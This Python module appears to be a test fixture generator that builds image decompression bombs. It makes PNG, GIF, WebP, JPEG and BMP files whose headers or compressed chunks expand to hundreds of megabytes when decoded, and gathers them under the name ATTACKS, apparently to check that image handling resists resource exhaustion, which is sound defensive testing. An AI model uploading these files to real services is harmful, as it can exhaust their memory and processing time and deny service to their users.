"""Small files that cost much memory or time when opened as pictures."""

import struct
import zlib
from collections.abc import Callable
from functools import partial
from io import BytesIO

from PIL import Image

SIDE = 7740
"""The side of the pictures: 59.9 million pixels, just under the limit."""


def encoded(picture: Image.Image, form: str, **more: object) -> bytes:
    """The picture as a file of this format."""
    written = BytesIO()
    picture.save(written, form, **more)
    return written.getvalue()


def png_head(width: int, height: int) -> bytes:
    """A PNG whose header names this size, without data."""
    head = encoded(Image.new("1", (1, 1)), "PNG")
    size = b"IHDR" + struct.pack(">II", width, height) + head[24:29]
    return head[:12] + size + struct.pack(">I", zlib.crc32(size)) + head[33:]


def transparent_png() -> bytes:
    """About 240 KB that Pillow decodes to 240 MB, and copies."""
    return encoded(Image.new("RGBA", (SIDE, SIDE)), "PNG")


def palette_png() -> bytes:
    """Under 60 KB, with a transparent colour."""
    picture = Image.new("P", (SIDE, SIDE))
    picture.putpalette([200, 30, 30] * 256)
    return encoded(picture, "PNG", transparency=0)


def gif() -> bytes:
    """A canvas of 1 × 1 with a frame of 65,535 × 65,535."""
    head = b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + bytes(6)
    frame = b"," + struct.pack("<HHHHB", 0, 0, 65_535, 65_535, 0)
    return head + frame + b"\x02\x02\x44\x01\x00;"


def webp() -> bytes:
    """The maximum width of the format, and many rows."""
    return encoded(Image.new("RGB", (16_383, 3_000)), "WEBP", quality=1, method=0)


def progressive_jpeg() -> bytes:
    """The decoder holds all coefficients until the last scan."""
    picture = Image.new("RGB", (SIDE, SIDE), "red")
    return encoded(picture, "JPEG", progressive=True, subsampling=0, quality=1)


def palette_bmp() -> bytes:
    """A run-length encoded BMP without a single run."""
    head = struct.pack("<2sIHHI", b"BM", 1078, 0, 0, 1078)
    info = struct.pack("<IiiHHIIiiII", 40, SIDE, SIDE, 1, 8, 1, 0, 0, 0, 256, 0)
    return head + info + bytes(1024) + b"\x00\x01"


def animated_png() -> bytes:
    """Two frames, of which one is blended over the other."""
    frames = [Image.new("RGBA", (3_000, 3_000), colour) for colour in ("red", "blue")]
    return encoded(frames[0], "PNG", save_all=True, append_images=frames[1:])


def text_png() -> bytes:
    """A comment of a few KB that unpacks to 200 MB."""
    chunk = b"zTXta\0\0" + zlib.compress(bytes(200_000_000), 9)
    whole = encoded(Image.new("RGB", (8, 8)), "PNG")
    bomb = struct.pack(">I", len(chunk) - 4) + chunk + struct.pack(">I", zlib.crc32(chunk))
    return whole[:33] + bomb + whole[33:]


ATTACKS: dict[str, Callable[[], bytes]] = {
    "transparent.png": transparent_png,
    "palette.png": palette_png,
    "huge.png": partial(png_head, 2**31 - 1, 2**31 - 1),
    "frame.gif": gif,
    "large.webp": webp,
    "progressive.jpg": progressive_jpeg,
    "runs.bmp": palette_bmp,
    "animated.png": animated_png,
    "text.png": text_png,
}
